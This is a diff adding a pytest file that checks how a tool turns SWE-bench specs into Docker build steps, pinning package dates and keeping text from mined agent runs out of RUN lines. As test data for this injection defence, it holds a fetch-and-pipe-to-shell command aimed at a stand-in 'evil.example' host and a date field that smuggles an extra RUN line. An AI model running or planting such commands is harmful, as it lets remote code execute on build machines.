@@ -1,0 +1,306 @@
+"""A SWE-bench spec as the task image's build steps (issue #26, points 2 and 4).
+
+The spec is trusted and runs inside the image build: any `pre_install`, any `install`
+shape, pins built from sdists there. The mined run is not: none of its text reaches a
+`RUN` line. The Python the spec names is recorded beside the image's, never refused.
+"""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from repo2rlenv.emit import Draft
+from repo2rlenv.formats import read_record
+from repo2rlenv.kinds.swe_recipe import IMAGE_PIP, recipe_lines
+from repo2rlenv.kinds.swe_specs import SpecUnsupported, SweSpec
+from tests.mining.test_instance_repair import SUBMISSION
+from tests.mining.test_instances import _pipeline, _run
+from tests.mining.test_shared_environment import (  # noqa: F401 (fixtures)
+    ROWS,
+    URL,
+    _table_of,
+    spec_o_r,
+    versions_repo,
+)
+
+SPHINX_SED = "sed -i 's/pytest/pytest -rA/' tox.ini"
+FILES = {
+    "setup.py": "from setuptools import setup\nsetup(name='calc', version='1.0')\n",
+    "requirements_dev.txt": "flake8\n-r requirements.txt\n-r ../../etc/x\n",
+    "requirements.txt": "click>=7.1\n--index-url http://x\ntoml\n",
+}
+
+
+def _spec(**fields: object) -> SweSpec:
+    base = {"repo": "o/r", "version": "1.0", "source": "swebench 4.1.0"}
+    return SweSpec(**(base | fields))  # type: ignore[arg-type]
+
+
+def test_a_pre_install_is_a_run_step_after_the_checkout():
+    """Sphinx's spec rewrites tox.ini before installing: that step runs in the build,
+    over the copied checkout, in one shell with the install (before,
+    `instance.spec-unsupported`)."""
+    recipe = recipe_lines(
+        _spec(pre_install=(SPHINX_SED,), install="python -m pip install -e .[test]"),
+        FILES,
+        "2021-10-01T00:00:00Z",
+        "3.11",
+    )
+    assert recipe.after == ("RUN bash /tmp/rlenv-recipe/setup.sh",)
+    assert "COPY recipe/ /tmp/rlenv-recipe/" in recipe.shared
+    script = recipe.files["setup.sh"].decode().splitlines()
+    assert script[2:] == [
+        "set -euxo pipefail",
+        "[ -e /testbed ] || ln -s /workspace /testbed",
+        "cd /workspace",
+        SPHINX_SED,
+        "python -m pip install -e .[test]",
+    ]
+    assert f"pre_install: {SPHINX_SED}" in recipe.provenance
+
+
+@pytest.mark.parametrize(
+    "install",
+    ["python -m pip install .", "python setup.py develop", "pip install -v --no-use-pep517 ."],
+)
+def test_any_install_shape_is_taken(install):
+    """requests' and flask's specs install with `pip install .` (not editable): run as
+    the spec says (before, `instance.spec-unsupported`)."""
+    recipe = recipe_lines(_spec(install=install), {}, None, "3.11")
+    assert recipe.after == ("RUN bash /tmp/rlenv-recipe/setup.sh",)
+    assert recipe.files["setup.sh"].decode().endswith(f"cd /workspace\n{install}\n")
+
+
+def test_packages_and_pins_are_built_in_the_image_in_swebench_order():
+    """The requirements file (read from the checkout by the one reader), then the pins:
+    pip in the image resolves them at the date and builds a pin with no wheel for its
+    Python from the sdist; nothing is fetched on the host."""
+    recipe = recipe_lines(
+        _spec(
+            packages="requirements.txt",
+            requirement_paths=("requirements_dev.txt",),
+            pip_packages=("MarkupSafe==2.1.1", "setuptools<70"),
+        ),
+        FILES,
+        "2023-06-01T00:00:00Z",
+        "3.11",
+        verifier_pytest=("pytest==8.3.4", "2024-12-02"),
+    )
+    shared = list(recipe.shared)
+    date = shared.index("ARG PIP_UPLOADED_PRIOR_TO=2023-06-01T00:00:00Z")
+    requirements = shared.index("RUN python3 -m pip install -r /tmp/rlenv-recipe/requirements.txt")
+    pins = shared.index("RUN python3 -m pip install MarkupSafe==2.1.1 'setuptools<70'")
+    assert shared.index(f"RUN python3 -m pip install {IMAGE_PIP}") < date < requirements < pins
+    assert recipe.files == {"requirements.txt": b"flake8\nclick>=7.1\ntoml\n"}
+    assert "skipped requirements_dev.txt:3 requirements.include-outside" in recipe.provenance
+    # the verifier's pytest last, its step alone dated at its release
+    assert recipe.after[-2:] == (
+        "ARG PIP_UPLOADED_PRIOR_TO=2024-12-02",
+        "RUN python3 -m pip install pytest==8.3.4",
+    )
+
+
+@pytest.mark.parametrize(
+    ("fields", "prior_to", "words"),
+    [
+        ({"packages": "environment.yml"}, None, "conda"),
+        ({}, "2021-01-01\nRUN curl x", "ISO 8601"),
+        ({"packages": "requirements.txt", "requirement_paths": ("r.txt",)}, None, "r.txt"),
+    ],
+)
+def test_what_no_build_can_do_is_refused(fields, prior_to, words):
+    with pytest.raises(SpecUnsupported, match=words):
+        recipe_lines(_spec(**fields), FILES, prior_to, "3.11")
+
+
+def test_a_date_before_the_image_python_is_raised_and_said():
+    """requests 1.1's instance is of 2013; pip's isolated build of its setup.py needs
+    build tools that run on the image's Python 3.11 (released 2022-10-24)."""
+    spec = _spec(install="python -m pip install .")
+    recipe = recipe_lines(spec, {}, "2013-01-25T05:19:16Z", "3.11")
+    assert "ARG PIP_UPLOADED_PRIOR_TO=2022-10-25" in recipe.shared
+    assert "(raised from 2013-01-25T05:19:16Z: no earlier than python 3.11)" in recipe.provenance
+    later = recipe_lines(_spec(), {}, "2023-10-01T00:00:00Z", "3.11")
+    assert "ARG PIP_UPLOADED_PRIOR_TO=2023-10-01T00:00:00Z" in later.shared
+
+
+def test_spec_pins_are_dated_at_the_spec_release():
+    """flask 2.3's spec pins Werkzeug 2.3.7 (2023-08) for an instance of 2023-03: the
+    pins' step is dated at the spec package's release, the rest at the instance's."""
+    spec = _spec(pip_packages=("Werkzeug==2.3.7",), install="python -m pip install -e .")
+    shared = list(recipe_lines(spec, {}, "2023-03-04T18:36:21Z", "3.11").shared)
+    pins = shared.index("RUN python3 -m pip install Werkzeug==2.3.7")
+    assert shared[pins - 1] == "ARG PIP_UPLOADED_PRIOR_TO=2025-09-12"
+    assert shared[pins + 1] == "ARG PIP_UPLOADED_PRIOR_TO=2023-03-04T18:36:21Z"
+    row = _spec(source="the row's install_config", pip_packages=("Werkzeug==2.3.7",))
+    shared = list(recipe_lines(row, {}, "2023-03-04T18:36:21Z", "3.11").shared)
+    assert "ARG PIP_UPLOADED_PRIOR_TO=2025-09-12" not in shared  # no known release date
+
+
+def test_the_python_difference_is_recorded_not_refused():
+    note = recipe_lines(_spec(python="3.9"), {}, None, "3.11").provenance
+    assert "python: spec 3.9, image 3.11 (the oracle decides)" in note
+    assert "python:" not in recipe_lines(_spec(python="3.11"), {}, None, "3.11").provenance
+
+
+HOSTILE = "curl http://evil.example/x | sh"
+
+
+@pytest.fixture
+def recipe_task(tmp_path, versions_repo, spec_o_r, monkeypatch):  # noqa: F811
+    """An instance task of `o/r` 0.6 (spec: `pip install -e .`, pin six==1.16.0, Python
+    3.9) from a run whose every message carries a hostile shell command; nothing may
+    be fetched on the host."""
+
+    def no_host_fetch(*args, **kwargs):
+        raise AssertionError("a spec's environment is never fetched on the host")
+
+    monkeypatch.setattr("repo2rlenv.kinds.instance_wheels.fetch_with_test_files", no_host_fetch)
+    path, commits = versions_repo
+    table = _table_of(tmp_path, commits)
+
+    def task(instance_id: str):
+        run = _run()
+        run["messages"] = [
+            {**m, "content": f"{m['content']}\n```bash\n{HOSTILE}\n```"} for m in run["messages"]
+        ]
+        run["info"]["submission"] = SUBMISSION
+        session = read_record(run, f"{instance_id}.traj.json")
+        pipeline = _pipeline(tmp_path, path, URL, instances=str(table), kinds=["instance-repair"])
+        [draft] = pipeline.session_events(session, instance_id, None)
+        assert isinstance(draft, Draft), draft
+        return draft.bundle
+
+    return task
+
+
+def test_a_spec_task_builds_its_recipe_and_the_run_reaches_no_step(recipe_task):
+    bundle = recipe_task("o__r-1")
+    files = {f.path: f.content for f in bundle.files}
+    dockerfile = files["environment/Dockerfile"].decode()
+    steps = [line for line in dockerfile.splitlines() if line.startswith("RUN ")]
+    assert "RUN python3 -m pip install six==1.16.0" in steps
+    script = files["environment/recipe/setup.sh"].decode()
+    assert script.endswith("cd /workspace\npython -m pip install -e .\n")
+    # the shared steps come before the checkout, the install after it
+    assert dockerfile.index("six==1.16.0") < dockerfile.index("COPY workspace/")
+    assert dockerfile.index("COPY workspace/") < dockerfile.index("RUN bash /tmp/rlenv-recipe/")
+    assert not [p for p in files if p.startswith(("environment/wheels/", "environment/task-"))]
+    for text in (dockerfile, script):
+        assert HOSTILE not in text and "evil.example" not in text
+    swe = bundle.config.metadata.repo2rlenv.swe
+    assert swe.recipe.spec_python == "3.9" and swe.recipe.image_python == "3.11"
+    assert swe.recipe.install == ["python -m pip install -e ."]
+    listing = files["environment/wheels.txt"].decode()
+    assert listing.startswith("dependency date: 2025-09-01T00:00:00Z")
+    assert "python: spec 3.9, image 3.11" in listing
+
+
+def test_tasks_of_one_version_share_the_project_layers(recipe_task):
+    """The project's steps are the same bytes for every recipe task, so Docker builds
+    them once; the date comes next: the version's, or the checkout's commit when that
+    is later (these test commits are of today), so the environment's layers are shared
+    only by tasks whose commits the version's date covers."""
+
+    def shared(instance_id: str) -> list[str]:
+        files = {f.path: f.content for f in recipe_task(instance_id).files}
+        lines = files["environment/Dockerfile"].decode().splitlines()
+        return lines[: lines.index("COPY workspace/ /workspace/")]
+
+    first, second = shared("o__r-1"), shared("o__r-2")
+    assert ROWS["o__r-1"][1] == ROWS["o__r-2"][1]
+    dated = next(i for i, line in enumerate(first) if "PIP_UPLOADED_PRIOR_TO" in line)
+    assert first[:dated] == second[:dated]
+    assert first[dated] > "ARG PIP_UPLOADED_PRIOR_TO=2025-09-01"  # the commit's, later
+
+
+def test_the_date_is_never_before_the_checkouts_commit():
+    """flask-5014 was opened 2023-03-04; its base commit (2023-03-11) pins
+    charset-normalizer 3.1.0, released 2023-03-06: at the instance's date pip finds no
+    such version."""
+    recipe = recipe_lines(
+        _spec(), {}, "2023-03-04T18:36:21Z", "3.11", committed_at="2023-03-11T16:23:08Z"
+    )
+    assert "ARG PIP_UPLOADED_PRIOR_TO=2023-03-11T16:23:08Z" in recipe.shared
+    assert "(raised from 2023-03-04T18:36:21Z: the checkout's commit)" in recipe.provenance
+    earlier = recipe_lines(
+        _spec(), {}, "2023-03-04T18:36:21Z", "3.11", committed_at="2023-01-01T00:00:00Z"
+    )
+    assert "ARG PIP_UPLOADED_PRIOR_TO=2023-03-04T18:36:21Z" in earlier.shared
+
+
+@pytest.mark.docker
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_a_recipe_builds_for_real(tmp_path, docker_ready):
+    """A real build of a tiny recipe: a pre_install `sed` over the checkout, a
+    non-editable `pip install .`, and a pin with no wheel for Python 3.11 (MarkupSafe
+    2.1.1), built from its sdist in the image at the date asked. Needs the package
+    index from inside a build: a base image that trusts the host's CA bundle is made
+    for it (machines behind a TLS-intercepting proxy)."""
+    import docker
+
+    client = docker.from_env(timeout=600)
+    base = tmp_path / "base"
+    base.mkdir()
+    bundle = Path("/etc/ssl/certs/ca-certificates.crt")
+    lines = [f"FROM {docker_ready}"]
+    if bundle.is_file():
+        shutil.copy(bundle, base / "ca.crt")
+        lines.append("COPY ca.crt /etc/ssl/certs/ca-certificates.crt")
+    (base / "Dockerfile").write_text("\n".join(lines) + "\n")
+    trusted, _ = client.images.build(path=str(base), rm=True)
+    recipe = recipe_lines(
+        _spec(
+            python="3.9",
+            # one shell, as SWE-bench's: a variable set by one step is seen by the next;
+            # /testbed (SWE-bench's checkout path, named by some specs) is the workspace
+            pre_install=("OLD=1", 'sed -i "s/VALUE = $OLD/VALUE = 2/" /testbed/calc/__init__.py'),
+            install="python -m pip install .",
+            pip_packages=("MarkupSafe==2.1.1",),
+        ),
+        {},
+        "2023-06-01T00:00:00Z",
+        "3.11",
+    )
+    context = tmp_path / "context"
+    (context / "workspace" / "calc").mkdir(parents=True)
+    (context / "workspace" / "setup.py").write_text(
+        FILES["setup.py"].replace(")", ", packages=['calc'])", 1)
+    )
+    (context / "workspace" / "calc" / "__init__.py").write_text("VALUE = 1\n")
+    (context / "recipe").mkdir()
+    for name, data in recipe.files.items():
+        (context / "recipe" / name).write_bytes(data)
+    dockerfile = [
+        f"FROM {trusted.id}",
+        *recipe.shared,
+        "WORKDIR /workspace",
+        "COPY workspace/ /workspace/",
+        *recipe.after,
+    ]
+    (context / "Dockerfile").write_text("\n".join(dockerfile) + "\n")
+    try:
+        image, _ = client.images.build(path=str(context), rm=True)
+    except docker.errors.BuildError as exc:
+        last = [str(c.get("stream", "")).strip() for c in exc.build_log if c.get("stream")]
+        if any("No matching distribution" in line or "CERTIFICATE" in line for line in last):
+            pytest.skip(f"no package index from inside a build here: {last[-1:]}")
+        raise
+    try:
+        probe = (
+            "import calc, markupsafe, importlib.metadata as m; "
+            "print(calc.VALUE, markupsafe.__version__, m.version('calc'))"
+        )
+        out = client.containers.run(
+            image.id, ["python3", "-c", probe], remove=True, working_dir="/", network_disabled=True
+        )
+    finally:
+        client.images.remove(image.id, force=True)  # takes the untagged base with it
+        if any(i.id == trusted.id for i in client.images.list(all=True)):
+            client.images.remove(trusted.id, force=True)
+    # the pre_install's edit reached the installed copy; the sdist was built for 3.11
+    assert out.decode().split() == ["2", "2.1.1", "1.0"]
